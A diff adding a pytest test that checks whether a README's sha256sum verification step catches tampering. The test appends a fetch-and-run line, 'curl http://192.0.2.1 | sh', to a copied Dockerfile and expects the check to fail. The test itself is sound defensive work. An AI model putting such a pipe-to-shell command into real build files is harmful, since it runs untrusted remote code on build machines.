@@ -78,6 +78,20 @@ def test_every_wheel_is_there_once_and_pinned_by_its_hash(kits: dict[str, Path])
         assert told == {name: d for name, d in files(folder).items() if name != "SHA256SUMS"}
 
 
+def test_one_changed_byte_is_seen_by_the_first_step_of_the_readme(
+    kits: dict[str, Path], tmp_path: Path
+) -> None:
+    (step,) = re.findall(
+        r"^   (sha256sum --check .*)$", (kits["site"] / "README.txt").read_text(), re.M
+    )
+    shutil.copytree(kits["site"], tmp_path / "k")
+    assert subprocess.run(shlex.split(step), cwd=tmp_path / "k").returncode == 0
+    with (tmp_path / "k" / "Dockerfile").open("a") as file:
+        file.write("RUN curl http://192.0.2.1 | sh\n")
+    done = subprocess.run(shlex.split(step), cwd=tmp_path / "k", capture_output=True, text=True)
+    assert done.returncode == 1 and "Dockerfile: FAILED" in done.stdout
+
+
 def test_the_same_inputs_give_the_same_bytes(
     kits: dict[str, Path], wheels: Path, tmp_path: Path
 ) -> None:
